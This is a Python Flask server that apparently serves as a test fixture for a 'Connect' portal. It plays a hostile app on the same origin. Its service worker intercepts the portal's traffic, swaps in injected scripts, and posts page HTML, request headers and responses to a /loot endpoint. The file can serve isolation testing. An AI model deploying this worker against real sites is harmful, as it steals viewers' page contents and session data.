"""Other content of the same Connect server, whose author is after the portal's viewers. It sets any header it likes.

`/` is its page; `/worker.js` a service worker for the whole origin, as its query says; `/loot` takes what was caught.
"""

from __future__ import annotations

from flask import Flask, Response, request

server = Flask(__name__)
loot: list[str] = []

WORKER = """
const asked = new URL(location.href).searchParams;
const portal = asked.get("portal"), way = asked.get("way");
const take = (text) => fetch(new URL("loot", location.href), { method: "POST", body: text });
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil((async () => {
  if (way === "preload") await registration.navigationPreload.enable();
  if (way !== "late") await clients.claim();
})()));
self.addEventListener("message", (event) => clients.claim());
self.addEventListener("fetch", (event) => {
  const { request } = event;
  if (!new URL(request.url).pathname.startsWith(portal)) return;
  const navigates = request.mode === "navigate";
  if (way === "scripts" && request.destination === "script") {
    const evil = `fetch(${JSON.stringify(String(new URL("loot", location.href)))},
      {method: "POST", body: "script ran: " + document.documentElement.outerHTML})`;
    event.respondWith(new Response(evil, { headers: { "Content-Type": "text/javascript" } }));
  } else if (navigates ? way === "documents" || way === "preload" : way !== "scripts") {
    event.respondWith((async () => {
      const answer = (navigates && (await event.preloadResponse)) || (await fetch(request));
      const seen = { url: request.url, sent: [...request.headers], got: await answer.clone().text() };
      await take(JSON.stringify({ ...seen, headers: [...answer.headers] }));
      return answer;
    })());
  }
});
"""


@server.get("/")
def page() -> Response:
    response = Response("<!doctype html><title>Other content</title><h1>Other content</h1>", mimetype="text/html")
    # The weakest, or the same as the portal's: whatever helps.
    response.headers["Cross-Origin-Opener-Policy"] = request.args.get("coop", "unsafe-none")
    return response


@server.get("/worker.js")
def worker() -> Response:
    response = Response(WORKER, mimetype="text/javascript")
    response.headers["Service-Worker-Allowed"] = "/"
    return response


@server.post("/loot")
def take() -> str:
    loot.append(request.get_data(as_text=True))
    return ""


@server.get("/loot")
def taken() -> list[str]:
    found = list(loot)
    loot.clear()
    return found
